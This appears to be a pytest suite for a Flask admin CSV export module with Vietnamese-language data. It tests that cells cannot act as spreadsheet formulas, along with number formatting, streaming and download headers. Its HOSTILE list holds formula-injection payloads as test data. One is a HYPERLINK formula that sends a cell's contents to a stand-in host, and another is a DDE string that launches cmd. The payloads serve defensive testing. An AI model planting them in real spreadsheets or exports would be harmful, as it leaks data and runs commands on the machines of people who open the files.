"""Files for spreadsheets: read back as they were meant, and no cell of theirs is a formula."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from decimal import Decimal
from io import StringIO

import pytest
from flask import Flask, Response

from admin.exporting import TRIGGERS, Cell, csv_response, csv_text, written

HOSTILE = [
    '=HYPERLINK("https://x.example/?"&A1;"bấm")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_is_a_formula(text: str) -> None:
    ((heading,), (cell,)) = read("".join(csv_text([text], [[text]])))
    assert heading == cell == "'" + text
    assert not cell.startswith(TRIGGERS)


@pytest.mark.parametrize("text", ["x; =1+1", 'x"\r\n=1+1', "x\n=1+1;", "'=1"])
def test_no_text_becomes_two_cells(text: str) -> None:
    assert read("".join(csv_text(["a", "b"], [[text, "sau"]])))[1] == [text, "sau"]


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        (None, ""),
        ("", ""),
        (12, "12"),
        (-12, "-12"),
        (Decimal("86.85"), "86,85"),
        (Decimal("-0.5"), "-0,5"),
        (Decimal("1E+3"), "1000"),
        ("Sở Nội vụ", "Sở Nội vụ"),
        ("86,85", "86,85"),
        ("-0,5", "'-0,5"),
    ],
)
def test_how_cells_are_written(cell: Cell, text: str) -> None:
    assert written(cell) == text


def test_a_long_table_goes_out_in_parts() -> None:
    def rows() -> Iterator[list[Cell]]:
        for number in range(1234):
            asked.append(number)
            yield [number, f"dòng {number}"]

    asked: list[int] = []
    parts = csv_text(["số", "tên"], rows())
    first = next(parts)
    assert len(asked) < 1234
    assert read(first + "".join(parts)) == [["số", "tên"], *([str(n), f"dòng {n}"] for n in range(1234))]


def test_the_file() -> None:
    app = Flask(__name__)

    @app.get("/tep")
    def file() -> Response:
        return csv_response("nhật ký.csv", ["ai"], [["Nguyễn Văn A"]])

    answer = app.test_client().get("/tep")
    assert answer.data == "\ufeffai\r\nNguyễn Văn A\r\n".encode()
    assert answer.content_type == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"].startswith("attachment; filename")
    assert "filename*=UTF-8''nh%E1%BA%ADt%20k%C3%BD.csv" in answer.headers["Content-Disposition"]
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Cache-Control"] == "no-store"


def test_an_empty_table_has_its_header() -> None:
    assert read("".join(csv_text(["a", "b"], []))) == [["a", "b"]]
